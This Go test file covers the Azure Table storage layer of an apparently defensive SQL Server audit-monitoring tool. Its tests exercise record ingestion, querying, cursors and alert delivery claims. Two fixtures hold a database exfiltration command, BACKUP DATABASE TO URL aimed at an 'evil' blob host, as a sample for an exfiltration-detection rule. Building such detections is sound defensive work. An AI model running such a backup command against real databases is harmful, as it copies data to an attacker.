package store

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/data/aztables"
	"github.com/xelwatch/xelwatch/detect"
	"github.com/xelwatch/xelwatch/handler/internal/ingest"
	"github.com/xelwatch/xelwatch/handler/internal/testsupport/azuritetest"
	"github.com/xelwatch/xelwatch/xel/audit"
)

// newTestStore returns a Store over fresh tables in Azurite.
func newTestStore(t testing.TB) *Store {
	t.Helper()
	conn := azuritetest.ConnString(t)
	svc, err := NewServiceClientFromConnectionString(conn)
	if err != nil {
		t.Fatal(err)
	}
	s := New(svc, Names{Events: azuritetest.Name("ev"), Cursors: azuritetest.Name("cur"), Detections: azuritetest.Name("det")})
	ctx := context.Background()
	if err := s.EnsureTables(ctx); err != nil {
		t.Fatal(err)
	}
	if err := s.EnsureTables(ctx); err != nil {
		t.Fatalf("EnsureTables twice: %v", err)
	}
	t.Cleanup(func() {
		for _, n := range []string{s.names.Events, s.names.Cursors, s.names.Detections} {
			_, _ = svc.DeleteTable(context.Background(), n, nil)
		}
	})
	return s
}

// testRecords returns n records of file, one every 37 s from start, at
// increasing offsets, 3 events per buffer.
func testRecords(file string, start time.Time, n int) []*audit.Record {
	recs := make([]*audit.Record, n)
	for i := range recs {
		recs[i] = &audit.Record{
			EventTime:               start.Add(time.Duration(i) * 37 * time.Second).Add(1234567 * time.Nanosecond),
			SequenceNumber:          1,
			ActionID:                []string{"LGIS", "BA", "SL"}[i%3],
			ActionName:              []string{"LOGIN SUCCEEDED", "BACKUP", "SELECT"}[i%3],
			Succeeded:               i%5 != 0,
			PermissionBitmask:       []byte{0, 0, 0, 0, 0, 0, 0, 1},
			SessionID:               int16(50 + i%7),
			ServerPrincipalID:       int32(i),
			ServerPrincipalName:     []string{"alice", "o'brien", "bob"}[i%3],
			ServerPrincipalSID:      []byte{1, 5, 0, 0, byte(i)},
			ServerInstanceName:      "srv1",
			DatabaseName:            "db1",
			Statement:               fmt.Sprintf("SELECT %d <x> & 'y' — ü", i),
			FileName:                file,
			AuditFileOffset:         int64(4096 * (1 + i/3)),
			EventIndex:              i % 3,
			TransactionID:           1 << 40,
			ClientIP:                "10.0.0.1",
			ApplicationName:         "sqlcmd",
			DurationMilliseconds:    int64(i),
			ConnectionID:            "5f0c7a8e-0000-4000-8000-000000000001",
			IsLocalSecondaryReplica: i%2 == 0,
			StatementTruncated:      i%5 == 0,
			Incomplete:              i%7 == 0,
		}
	}
	return recs
}

func collectRows(t *testing.T, s *Store, q EventQuery) []*Row {
	t.Helper()
	var got []*Row
	for r, err := range s.QueryEvents(context.Background(), q) {
		if err != nil {
			t.Fatalf("QueryEvents(%+v): %v", q, err)
		}
		got = append(got, r)
	}
	return got
}

func wantRecord(rec *audit.Record) audit.Record {
	w := *rec
	w.EventTime = w.EventTime.Truncate(100 * time.Nanosecond)
	w.Parts = nil
	return w
}

func recordsEqual(a, b audit.Record) bool {
	a.Parts, b.Parts = nil, nil
	return fmt.Sprintf("%#v", a) == fmt.Sprintf("%#v", b)
}

// TestAzuriteUpsertIdempotent writes 250 records spread over several hour
// partitions twice and reads back exactly the same 250 rows, every column
// equal.
func TestAzuriteUpsertIdempotent(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	start := time.Date(2026, 11, 21, 20, 10, 0, 0, time.UTC)
	recs := testRecords("srv1/db1/SqlDbAuditing_ServerAudit/2026-11-21/20_10_00_000_0.xel", start, 250)
	var first []*Row
	for round := range 2 {
		n, err := s.UpsertRecords(ctx, "srv1", "db1", "blob.xel", recs)
		if err != nil {
			t.Fatalf("round %d: %v", round, err)
		}
		if n != len(recs) {
			t.Fatalf("round %d: wrote %d rows, want %d", round, n, len(recs))
		}
		got := collectRows(t, s, EventQuery{Server: "srv1", Database: "db1"})
		if len(got) != len(recs) {
			t.Fatalf("round %d: %d rows, want %d", round, len(got), len(recs))
		}
		partitions := map[string]bool{}
		for i, r := range got {
			partitions[r.PartitionKey] = true
			if want := wantRecord(recs[i]); !recordsEqual(r.Record, want) {
				t.Fatalf("round %d row %d:\n got %+v\nwant %+v", round, i, r.Record, want)
			}
			if r.Server != "srv1" || r.Database != "db1" || r.Blob != "blob.xel" {
				t.Fatalf("row %d filed as %q/%q/%q", i, r.Server, r.Database, r.Blob)
			}
			if round == 1 && (r.PartitionKey != first[i].PartitionKey || r.RowKey != first[i].RowKey) {
				t.Fatalf("row %d keys changed on replay: %s/%s vs %s/%s", i, r.PartitionKey, r.RowKey, first[i].PartitionKey, first[i].RowKey)
			}
		}
		if len(partitions) < 3 {
			t.Fatalf("%d partitions, want the records spread over >= 3 hours", len(partitions))
		}
		first = got
	}
}

// TestAzuriteLongStatement stores a 100,000-character statement (and a
// 40,000-unit additional_information with astral characters) whole.
func TestAzuriteLongStatement(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	rec := testRecords("f.xel", time.Date(2026, 11, 21, 1, 2, 3, 0, time.UTC), 1)[0]
	var b strings.Builder
	for i := 0; b.Len() < 100_000; i++ {
		fmt.Fprintf(&b, "INSERT INTO t VALUES (%d, N'<>&\"');\n", i)
	}
	rec.Statement = b.String()[:100_000]
	rec.AdditionalInformation = strings.Repeat("<a>😀</a>", 5000)
	rec.Parts = make([]audit.Record, 4)
	if _, err := s.UpsertRecords(ctx, "srv1", "db1", "b", []*audit.Record{rec}); err != nil {
		t.Fatal(err)
	}
	got := collectRows(t, s, EventQuery{Server: "srv1", Database: "db1"})
	if len(got) != 1 {
		t.Fatalf("%d rows, want 1", len(got))
	}
	if got[0].Record.Statement != rec.Statement {
		t.Fatalf("statement: got %d chars, want %d", len(got[0].Record.Statement), len(rec.Statement))
	}
	if got[0].Record.AdditionalInformation != rec.AdditionalInformation {
		t.Fatalf("additional_information differs")
	}
	if got[0].SplitParts != 4 {
		t.Fatalf("split parts %d, want 4", got[0].SplitParts)
	}
}

// TestAzuriteQuery checks that a query returns exactly the rows of the
// server, database, time range, action and principal asked for.
func TestAzuriteQuery(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	start := time.Date(2026, 11, 21, 22, 30, 0, 0, time.UTC)
	type filed struct {
		server, database string
		recs             []*audit.Record
	}
	sets := []filed{
		{"srv1", "db1", testRecords("a.xel", start, 120)},
		{"srv1", "db2", testRecords("b.xel", start, 60)},
		{"srv1x", "db1", testRecords("c.xel", start, 30)},
		{"srv/1", "d'b", testRecords("d.xel", start, 30)},
		{"srv2", "Überprüfung_日本😀", testRecords("e.xel", start, 20)},
	}
	for _, f := range sets {
		for _, r := range f.recs {
			r.DatabaseName = f.database // the record's database_name files the row
		}
		if _, err := s.UpsertRecords(ctx, f.server, f.database, "blob", f.recs); err != nil {
			t.Fatal(err)
		}
	}
	from := start.Add(10 * time.Minute)
	to := start.Add(50 * time.Minute)
	tests := []struct {
		name string
		q    EventQuery
		set  []int // indexes into sets
		keep func(*audit.Record) bool
	}{
		{"server and database", EventQuery{Server: "srv1", Database: "db1"}, []int{0}, nil},
		{"whole server", EventQuery{Server: "srv1"}, []int{0, 1}, nil},
		{"escaped names", EventQuery{Server: "srv/1", Database: "d'b"}, []int{3}, nil},
		{"unicode names", EventQuery{Server: "srv2", Database: "Überprüfung_日本😀", From: from}, []int{4},
			func(r *audit.Record) bool { return !r.EventTime.Before(from) }},
		{"time range across the hour", EventQuery{Server: "srv1", Database: "db1", From: from, To: to}, []int{0},
			func(r *audit.Record) bool { return !r.EventTime.Before(from) && r.EventTime.Before(to) }},
		{"from only", EventQuery{Server: "srv1", Database: "db2", From: from}, []int{1},
			func(r *audit.Record) bool { return !r.EventTime.Before(from) }},
		{"to only, whole server", EventQuery{Server: "srv1", To: to}, []int{0, 1},
			func(r *audit.Record) bool { return r.EventTime.Before(to) }},
		{"action", EventQuery{Server: "srv1", Database: "db1", ActionID: "BA"}, []int{0},
			func(r *audit.Record) bool { return r.ActionID == "BA" }},
		{"principal with quote", EventQuery{Server: "srv1", Database: "db1", From: from, To: to, Principal: "o'brien"}, []int{0},
			func(r *audit.Record) bool {
				return r.ServerPrincipalName == "o'brien" && !r.EventTime.Before(from) && r.EventTime.Before(to)
			}},
		{"nothing", EventQuery{Server: "nosuch"}, nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want := map[string]bool{}
			for _, i := range tt.set {
				for _, r := range sets[i].recs {
					if tt.keep == nil || tt.keep(r) {
						want[sets[i].server+"/"+sets[i].database+"/"+EventRowKey(r, "")] = true
					}
				}
			}
			got := collectRows(t, s, tt.q)
			seen := map[string]bool{}
			for _, r := range got {
				k := r.Server + "/" + r.Database + "/" + r.RowKey
				if !want[k] {
					t.Errorf("unexpected row %s (%s)", k, r.Record.EventTime)
				}
				if seen[k] {
					t.Errorf("row %s twice", k)
				}
				seen[k] = true
			}
			if len(seen) != len(want) {
				t.Errorf("got %d rows, want %d", len(seen), len(want))
			}
		})
	}
	if n := len(collectRows(t, s, EventQuery{Server: "srv1", Database: "db1", From: from, To: to})); n == 0 || n == 120 {
		t.Fatalf("time range selected %d of 120 rows; the test data does not exercise it", n)
	}
}

// TestAzuriteBatchFailureClassified checks the 202-with-inner-409 path
// against the emulator: an Add of an existing row inside a transaction.
func TestAzuriteBatchFailureClassified(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	recs := testRecords("f.xel", time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), 3)
	if _, err := s.UpsertRecords(ctx, "s", "d", "b", recs[1:2]); err != nil {
		t.Fatal(err)
	}
	ents, err := BuildEntities("s", "d", "b", time.Now(), recs)
	if err != nil {
		t.Fatal(err)
	}
	var actions []aztables.TransactionAction
	for _, e := range ents {
		actions = append(actions, aztables.TransactionAction{ActionType: aztables.TransactionTypeAdd, Entity: e.JSON})
	}
	_, err = s.EventsClient().SubmitTransaction(ctx, actions, nil)
	err = classify(err)
	if !errors.Is(err, ErrConflict) {
		t.Fatalf("got %v, want ErrConflict", err)
	}
	var se *ServiceError
	if !errors.As(err, &se) || se.StatusCode != 409 || se.ErrorCode != "EntityAlreadyExists" {
		t.Fatalf("got %#v", se)
	}
	t.Logf("classified: %v", err)
	if IsTransient(err) {
		t.Fatal("a conflict is not transient")
	}
}

func TestAzuriteCursor(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	cs := s.Cursors("sqldbauditlogs")
	blob := "srv1/db1/SqlDbAuditing_ServerAudit/2026-11-21/20_31_39_123_0.xel"
	if _, err := cs.Get(ctx, blob); !errors.Is(err, ErrNotFound) || !errors.Is(err, ingest.ErrNotFound) {
		t.Fatalf("Get of a new blob: %v, want ErrNotFound", err)
	}
	c, err := cs.Create(ctx, ingest.Cursor{Blob: blob, State: ingest.StateOpen, BlobETag: `"0x8DC"`, BlobLength: 4096,
		Offset: 4096, MetadataOffsets: []int64{0, 8192}, LastGrowth: time.Date(2026, 11, 21, 20, 31, 40, 0, time.UTC),
		LeaseOwner: "inv-1", LeaseUntil: time.Date(2026, 11, 21, 20, 33, 40, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	if c.ETag == "" || c.Server != "srv1" || c.Database != "db1" || c.UpdatedAt.IsZero() {
		t.Fatalf("Create returned %+v: want an ETag, the blob's path and the update time", c)
	}
	if _, err := cs.Create(ctx, ingest.Cursor{Blob: blob}); !errors.Is(err, ErrConflict) || !errors.Is(err, ingest.ErrConflict) {
		t.Fatalf("second Create: %v, want ErrConflict", err)
	}
	created := func() time.Time {
		pk, rk := CursorKeys("sqldbauditlogs", blob)
		resp, err := s.cursors.GetEntity(ctx, pk, rk, nil)
		if err != nil {
			t.Fatal(err)
		}
		var e aztables.EDMEntity
		if err := json.Unmarshal(resp.Value, &e); err != nil {
			t.Fatal(err)
		}
		return props(e.Properties).time("created")
	}
	wasCreated := created()
	// Two updaters read the same version; only the first update wins.
	a, err := cs.Get(ctx, blob)
	if err != nil {
		t.Fatal(err)
	}
	b, err := cs.Get(ctx, blob)
	if err != nil {
		t.Fatal(err)
	}
	if fmt.Sprint(a.MetadataOffsets) != "[0 8192]" || a.Offset != 4096 || a.State != ingest.StateOpen || !a.LastGrowth.Equal(c.LastGrowth) || a.BlobETag != `"0x8DC"` ||
		a.LeaseOwner != "inv-1" || !a.LeaseUntil.Equal(c.LeaseUntil) || a.Server != "srv1" || a.Audit != "SqlDbAuditing_ServerAudit" {
		t.Fatalf("read back %+v", a)
	}
	a.Offset, a.Rows = 8192, 10
	if a, err = cs.Update(ctx, a); err != nil {
		t.Fatalf("first update: %v", err)
	}
	b.Offset, b.Rows = 12288, 99
	if _, err := cs.Update(ctx, b); !errors.Is(err, ErrConflict) || !errors.Is(err, ingest.ErrConflict) {
		t.Fatalf("stale update: %v, want ErrConflict", err)
	}
	a.State, a.LastError, a.FailedOffset = ingest.StateFailed, "xel: corrupt buffer at 8192", 8192
	if a, err = cs.Update(ctx, a); err != nil {
		t.Fatalf("update with the fresh ETag: %v", err)
	}
	got, err := cs.Get(ctx, blob)
	if err != nil {
		t.Fatal(err)
	}
	if got.Rows != 10 || got.Offset != 8192 || got.State != ingest.StateFailed || got.FailedOffset != 8192 || got.ETag != a.ETag ||
		got.LastError != "xel: corrupt buffer at 8192" {
		t.Fatalf("got %+v", got)
	}
	// Updates keep the creation time Create wrote.
	if wasCreated.IsZero() || !created().Equal(wasCreated) || got.UpdatedAt.Before(wasCreated) {
		t.Fatalf("created %s (was %s), updated %s", created(), wasCreated, got.UpdatedAt)
	}
	if _, err := cs.Create(ctx, ingest.Cursor{Blob: "other#?.xel", State: ingest.StateOpen}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Cursors("othercontainer").Create(ctx, ingest.Cursor{Blob: "x.xel", State: ingest.StateOpen}); err != nil {
		t.Fatal(err)
	}
	if open, err := cs.Open(ctx, 10); err != nil || len(open) != 1 || open[0].Blob != "other#?.xel" || open[0].ETag == "" {
		t.Fatalf("Open = %+v, %v; want the one open cursor of the container", open, err)
	}
	for _, tt := range []struct {
		container string
		state     ingest.State
		want      []string
	}{
		{"sqldbauditlogs", ingest.StateOpen, []string{"other#?.xel"}},
		{"sqldbauditlogs", ingest.StateFailed, []string{blob}},
		{"sqldbauditlogs", "", []string{"other#?.xel", blob}},
		{"othercontainer", ingest.StateOpen, []string{"x.xel"}},
		{"", ingest.StateOpen, []string{"x.xel", "other#?.xel"}},
		{"", "", []string{"x.xel", "other#?.xel", blob}},
	} {
		list := s.ListCursors(ctx, tt.state)
		if tt.container != "" {
			list = s.ListContainerCursors(ctx, tt.container, tt.state)
		}
		var names []string
		for c, err := range list {
			if err != nil {
				t.Fatal(err)
			}
			if c.ETag == "" {
				t.Fatalf("listed cursor without ETag")
			}
			names = append(names, c.Blob)
		}
		if fmt.Sprint(names) != fmt.Sprint(tt.want) {
			t.Errorf("list cursors (%q, %q) = %v, want %v", tt.container, tt.state, names, tt.want)
		}
	}
}

func testFinding(id string) detect.Finding {
	at := time.Date(2026, 11, 21, 20, 31, 39, 0, time.UTC)
	return detect.Finding{
		DetectionID: id, Rule: "EXF-001", Title: "Backup to an unapproved destination", Severity: detect.High,
		Technique: "T1537", Why: "BACKUP DATABASE to https://evil.blob.core.windows.net", Server: "srv1", Database: "db1",
		Principal: "o'brien", Time: at,
		Records: []detect.Evidence{{EventTime: at, ActionID: "BA", Server: "srv1", FileName: "f.xel", AuditFileOffset: 4096}},
	}
}

func TestAzuriteDetections(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	f := testFinding("EXF-001/abc#1")
	if _, err := s.ClaimDelivery(ctx, f.DetectionID, "webhook", time.Minute); !errors.Is(err, ErrNotFound) {
		t.Fatalf("claim before record: %v, want ErrNotFound", err)
	}
	for range 2 {
		if err := s.RecordFinding(ctx, f); err != nil {
			t.Fatal(err)
		}
	}
	tok, err := s.ClaimDelivery(ctx, f.DetectionID, "webhook", time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.ClaimDelivery(ctx, f.DetectionID, "webhook", time.Minute); !errors.Is(err, ErrClaimed) {
		t.Fatalf("second claim: %v, want ErrClaimed", err)
	}
	if err := s.MarkFailed(ctx, f.DetectionID, "webhook", tok, "notify: webhook: receiver answered 500"); err != nil {
		t.Fatal(err)
	}
	tok2, err := s.ClaimDelivery(ctx, f.DetectionID, "webhook", time.Minute)
	if err != nil {
		t.Fatalf("claim after failure: %v", err)
	}
	if err := s.MarkDelivered(ctx, f.DetectionID, "webhook", tok); !errors.Is(err, ErrClaimLost) {
		t.Fatalf("mark with an old token: %v, want ErrClaimLost", err)
	}
	if err := s.MarkDelivered(ctx, f.DetectionID, "webhook", tok2); err != nil {
		t.Fatal(err)
	}
	if err := s.MarkDelivered(ctx, f.DetectionID, "webhook", tok2); err != nil {
		t.Fatalf("MarkDelivered retried: %v", err)
	}
	if _, err := s.ClaimDelivery(ctx, f.DetectionID, "webhook", time.Minute); !errors.Is(err, ErrDelivered) {
		t.Fatalf("claim after delivery: %v, want ErrDelivered", err)
	}
	// A claim older than the lease (0 here) is taken over.
	tokS, err := s.ClaimDelivery(ctx, f.DetectionID, "slack", time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	tokS2, err := s.ClaimDelivery(ctx, f.DetectionID, "slack", 0)
	if err != nil || tokS2 == tokS {
		t.Fatalf("take over a stale claim: %q, %v", tokS2, err)
	}
	// Recording again does not reset deliveries.
	if err := s.RecordFinding(ctx, f); err != nil {
		t.Fatal(err)
	}
	d, err := s.GetDetection(ctx, f.DetectionID)
	if err != nil {
		t.Fatal(err)
	}
	gotJSON, _ := json.Marshal(d.Finding)
	wantJSON, _ := json.Marshal(f)
	if string(gotJSON) != string(wantJSON) {
		t.Fatalf("finding:\n got %s\nwant %s", gotJSON, wantJSON)
	}
	if d.Rule != "EXF-001" || d.Severity != detect.High || d.Server != "srv1" || !d.Time.Equal(f.Time) || d.ID != f.DetectionID {
		t.Fatalf("columns: %+v", d)
	}
	wh, sl := d.Deliveries["webhook"], d.Deliveries["slack"]
	if wh.State != DeliveryDelivered || wh.Attempts != 2 || wh.DeliveredAt.IsZero() {
		t.Fatalf("webhook delivery %+v", wh)
	}
	if sl.State != DeliveryClaimed || sl.Attempts != 2 {
		t.Fatalf("slack delivery %+v", sl)
	}
	old := testFinding("old")
	old.Time = f.Time.Add(-48 * time.Hour)
	if err := s.RecordFinding(ctx, old); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		since time.Time
		want  int
	}{{time.Time{}, 2}, {f.Time.Add(-time.Hour), 1}, {f.Time.Add(time.Second), 0}} {
		n := 0
		for d, err := range s.ListDetections(ctx, tt.since) {
			if err != nil {
				t.Fatal(err)
			}
			if !tt.since.IsZero() && d.Time.Before(tt.since) {
				t.Errorf("ListDetections(%s) returned %s at %s", tt.since, d.ID, d.Time)
			}
			n++
		}
		if n != tt.want {
			t.Errorf("ListDetections(%s): %d, want %d", tt.since, n, tt.want)
		}
	}
}

// TestAzuriteClaimRace: goroutines race to claim the same deliveries;
// exactly one sends per channel.
func TestAzuriteClaimRace(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	f := testFinding("race-1")
	if err := s.RecordFinding(ctx, f); err != nil {
		t.Fatal(err)
	}
	const racers = 8
	channels := []string{"teams", "webhook"}
	var sends [2]atomic.Int32
	var wg sync.WaitGroup
	errs := make(chan error, racers*2)
	for range racers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// Claims on the other channel change the same row, so ETag
			// conflicts come from unrelated writes too.
			for i, ch := range channels {
				tok, err := s.ClaimDelivery(ctx, f.DetectionID, ch, time.Minute)
				if errors.Is(err, ErrClaimed) || errors.Is(err, ErrDelivered) {
					continue
				}
				if err != nil {
					errs <- err
					continue
				}
				sends[i].Add(1)
				if err := s.MarkDelivered(ctx, f.DetectionID, ch, tok); err != nil {
					errs <- err
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	for i, ch := range channels {
		if got := sends[i].Load(); got != 1 {
			t.Errorf("%s: %d sends, want exactly 1", ch, got)
		}
	}
	d, err := s.GetDetection(ctx, f.DetectionID)
	if err != nil {
		t.Fatal(err)
	}
	for _, ch := range channels {
		if d.Deliveries[ch].State != DeliveryDelivered || d.Deliveries[ch].Attempts != 1 {
			t.Errorf("%s: %+v, want delivered after 1 attempt", ch, d.Deliveries[ch])
		}
	}
}

// TestAzuriteTooLargeRecord: a record too large for one entity (a
// 600,000-character statement, about 1.2 MB as the service counts it) is
// stored whole across its row and continuation entities, between two
// ordinary records, and read back whole; the continuation entities are no
// rows.
func TestAzuriteTooLargeRecord(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	recs := testRecords("f.xel", time.Date(2026, 11, 21, 3, 0, 0, 0, time.UTC), 3)
	recs[1].Statement = "BACKUP DATABASE [db1] TO URL = 'https://evil.blob.core.windows.net/c/x.bak' /*" +
		strings.Repeat("x<&>😀", 120_000) + "*/ WITH COPY_ONLY"
	recs[1].AdditionalInformation = strings.Repeat("<a/>", 40_000)
	rep, err := s.UpsertRecordsReport(ctx, "srv1", "db1", "b", recs)
	if err != nil || rep.Rows != 3 || len(rep.Degraded) != 0 || len(rep.Dropped) != 0 {
		t.Fatalf("UpsertRecordsReport = %+v, %v; want 3 rows whole", rep, err)
	}
	for round := range 2 { // a replay gives the same rows
		got := collectRows(t, s, EventQuery{Server: "srv1", Database: "db1"})
		if len(got) != 3 {
			t.Fatalf("round %d: %d rows, want 3", round, len(got))
		}
		for i, r := range got {
			if want := wantRecord(recs[i]); !recordsEqual(r.Record, want) || r.Degraded != "" {
				t.Fatalf("round %d row %d: statement %d bytes (want %d), degraded %q", round, i, len(r.Record.Statement), len(want.Statement), r.Degraded)
			}
		}
		if _, err := s.UpsertRecords(ctx, "srv1", "db1", "b", recs); err != nil {
			t.Fatal(err)
		}
	}
	// With an action filter (continuation entities have no action_id).
	got := collectRows(t, s, EventQuery{Server: "srv1", Database: "db1", ActionID: recs[1].ActionID})
	if len(got) != 1 || got[0].Record.Statement != recs[1].Statement {
		t.Fatalf("filtered query: %d rows", len(got))
	}
}

// TestAzuriteRefusedEntityInBatch: the emulator refuses one entity of a
// transaction (1.2 MB of JSON: 400 EntityTooLarge); the other entities of
// the transaction are written, and the refusal is recorded for its
// record, not returned.
func TestAzuriteRefusedEntityInBatch(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	recs := testRecords("f.xel", time.Date(2026, 11, 21, 4, 0, 0, 0, time.UTC), 3)
	var ents []Entity
	for i, rec := range recs {
		e, _ := BuildRecord("srv1", "db1", "b", time.Now(), rec)
		e[0].rec = i + 1
		ents = append(ents, e[0])
	}
	// An entity the emulator refuses, whatever our estimate says.
	big := map[string]any{"PartitionKey": ents[1].PartitionKey, "RowKey": ents[1].RowKey}
	for i := range 40 {
		big[fmt.Sprintf("p%d", i)] = strings.Repeat("x", 30_000)
	}
	ents[1].JSON, _ = json.Marshal(big)
	ref := &refusals{m: map[int]error{}}
	n, err := s.upsertInto(ctx, s.events, "rows", ents, ref)
	if err != nil || n != 2 {
		t.Fatalf("upsertInto = %d, %v; want 2 written, no error", n, err)
	}
	if got := ref.sorted(); len(got) != 1 || got[0] != 2 || !refusedEntity(ref.m[2]) {
		t.Fatalf("refused %v (%v), want record 2", got, ref.m)
	}
	t.Logf("refusal: %v", ref.m[2])
	rows := collectRows(t, s, EventQuery{Server: "srv1", Database: "db1"})
	if len(rows) != 2 || rows[0].Record.EventIndex != recs[0].EventIndex || rows[1].Record.EventIndex != recs[2].EventIndex {
		t.Fatalf("%d rows stored", len(rows))
	}
}
